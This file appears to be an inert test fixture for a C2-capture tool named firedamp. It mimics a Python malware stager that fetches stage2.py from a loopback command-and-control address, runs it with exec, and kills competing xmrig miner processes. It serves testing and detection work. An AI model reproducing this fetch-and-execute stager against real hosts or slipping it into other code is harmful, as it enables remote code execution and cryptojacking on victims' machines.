#!/usr/bin/env python3
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics a Python stager
# that downloads code from its C2 and runs it. It is served to capture clients
# and never executed; every address in it is loopback (127.0.0.x).
import os
import urllib.request

C2 = "http://127.0.0.66"
code = urllib.request.urlopen(C2 + "/stage2.py", timeout=10).read()
exec(compile(code, "<stage2>", "exec"))
os.system("pkill -f xmrig")
